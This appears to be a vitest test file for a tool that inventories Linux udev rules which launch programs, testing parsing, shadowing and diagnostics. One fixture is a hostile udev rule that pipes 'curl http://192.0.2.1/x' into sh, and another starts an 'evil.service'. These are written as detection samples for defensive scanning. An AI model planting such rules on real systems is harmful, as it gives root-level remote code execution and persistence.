import { describe, expect, it } from 'vitest';
import { udevWords } from '../../main/sources/linux/udev-record.ts';
import { source } from '../../main/sources/udev-rules.ts';
import { collectLinux } from '../support/linux-source.ts';

const HWCLOCK = `# Set the System Time
KERNEL=="rtc0", RUN+="/lib/udev/hwclock-set $root/$name"
`;

describe('udev-rules', () => {
  it('makes a record of each rule that runs something, with its line and match part', () => {
    const { services, counts } = collectLinux(source, {
      '/lib': { link: 'usr/lib' },
      '/usr/lib/udev/rules.d/85-hwclock.rules': HWCLOCK,
      '/usr/lib/udev/hwclock-set': 'x',
      '/usr/lib/udev/rules.d/60-other.rules':
        'KERNEL=="sd*", ENV{ID_X}="1", IMPORT{program}="ata_id $devnode"\n',
    });
    expect(services.map(({ command }) => command)).toEqual([
      'ata_id $devnode',
      '/lib/udev/hwclock-set $root/$name',
    ]);
    expect(services[1]).toMatchObject({
      id: 'linux:udev-rule:/usr/lib/udev/rules.d/85-hwclock.rules:2',
      name: '85-hwclock.rules:2',
      kind: 'job',
      command: '/lib/udev/hwclock-set $root/$name',
      image: { path: '/lib/udev/hwclock-set', evidencePath: '/usr/lib/udev/hwclock-set', state: 'found' },
      enabled: true,
      startMode: 'auto',
      account: 'root',
      provenance: [{ locator: { kind: 'line', key: 'RUN', line: 2 } }],
      activator: { mechanism: 'udev-rule', trigger: 'KERNEL=="rtc0"', startsUnit: null },
    });
    expect(counts).toMatchObject({ files: 2, rules: 2, activators: 2 });
  });

  it('follows continuation lines, bare programs, inline code and units', () => {
    const rules = `
SUBSYSTEM=="net", ACTION!="remove", \\
# a comment
  RUN+="helper 'a b'", \\
  RUN{program}+="/bin/sh -c 'curl http://192.0.2.1/x | sh'"
SUBSYSTEM=="usb", TAG+="systemd", ENV{SYSTEMD_WANTS}+="a.service b@%k.service"
ACTION=="add", ENV{SYSTEMD_USER_WANTS}="u.service"
ACTION=="add", RUN{builtin}+="kmod load x"
ACTION=="add", RUN-="/bin/x", RUN=""
ACTION=="add", RUN+="/usr/bin/systemctl --no-block start evil.service"
`;
    const { services, one } = collectLinux(source, {
      '/etc/udev/rules.d/10-x.rules': rules,
      '/usr/lib/udev/helper': 'ELF',
      '/bin/sh': 'ELF',
    });
    expect(services.map(({ name }) => name)).toEqual([
      '10-x.rules:2',
      '10-x.rules:6',
      '10-x.rules:7',
      '10-x.rules:10',
    ]);
    const run = one('10-x.rules:2');
    expect(run.activator?.trigger).toBe('SUBSYSTEM=="net", ACTION!="remove"');
    expect(run.image).toMatchObject({ path: '/usr/lib/udev/helper', state: 'found' });
    expect(run.payloads.map(({ role, path, raw }) => `${role} ${path || raw}`)).toEqual(
      expect.arrayContaining([
        'image /usr/lib/udev/helper',
        'image /bin/sh',
        'inline-code curl http://192.0.2.1/x | sh',
      ]),
    );
    expect(one('10-x.rules:6')).toMatchObject({
      command: null,
      image: null,
      activator: { startsUnit: 'a.service b@%k.service' },
    });
    expect(one('10-x.rules:7').activator).toMatchObject({
      startsUnit: 'u.service',
      properties: { Scope: 'user' },
    });
    expect(one('10-x.rules:10').activator?.startsUnit).toBe('evil.service');
  });

  it('a file hides those of its name in lower folders; masks are counted', () => {
    const { services, counts } = collectLinux(source, {
      '/etc/udev/rules.d/85-hwclock.rules': { link: '/dev/null' },
      '/usr/lib/udev/rules.d/85-hwclock.rules': HWCLOCK,
      '/etc/udev/rules.d/90-a.rules': 'ACTION=="add", RUN+="/tmp/a"\n',
      '/usr/lib/udev/rules.d/90-a.rules': 'ACTION=="add", RUN+="/usr/bin/a"\n',
      '/etc/udev/rules.d/README': HWCLOCK,
    });
    expect(services.map(({ command }) => command)).toEqual(['/tmp/a']);
    expect(counts).toMatchObject({ files: 1, masked: 1, shadowed: 2 });
  });

  it('reports lines that udev refuses and goes on', () => {
    const long = `ACTION=="add", RUN+="/bin/${'x'.repeat(20_000)}"\n`;
    const { services, diagnostics } = collectLinux(source, {
      '/etc/udev/rules.d/1.rules': `garbage\nACTION=="add, RUN+=/x\n${long}ACTION=="add" RUN+="/ok"\n`,
    });
    expect(services.map(({ command }) => command)).toEqual(['/ok']);
    expect(diagnostics.map(({ what }) => what.slice(0, 7))).toEqual(['line 1:', 'line 2:', 'line 3:']);
    expect(collectLinux(source, {}).outcome).toBe('notPresent');
  });

  it('splits RUN as udev does, not as a shell', () => {
    expect(udevWords(`/bin/a  'b c' d"e f"g $h; #i`)).toEqual(['/bin/a', 'b c', 'de fg', '$h;', '#i']);
    expect(udevWords(`x 'open`)).toEqual(['x', 'open']);
  });
});
